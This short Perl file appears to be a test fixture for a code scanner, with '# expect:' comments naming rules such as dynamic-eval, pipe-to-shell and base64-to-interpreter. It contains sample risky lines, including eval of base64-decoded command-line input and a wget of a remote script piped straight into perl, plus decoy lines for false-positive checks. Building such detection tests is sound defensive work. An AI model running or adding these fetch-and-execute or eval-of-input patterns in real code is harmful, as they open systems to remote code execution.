#!/usr/bin/perl -w
use strict;
use MIME::Base64;
my $code = decode_base64($ARGV[0]);
eval $code;  # expect: dynamic-eval
eval { risky(); };
system("wget -qO- https://example.com/p.pl | perl");  # expect: pipe-to-shell
eval decode_base64("cHJpbnQgMQ==");  # expect: base64-to-interpreter,dynamic-eval
sub risky { return 1; }
print STDOUT 'eval ', "\n";
use re "eval";
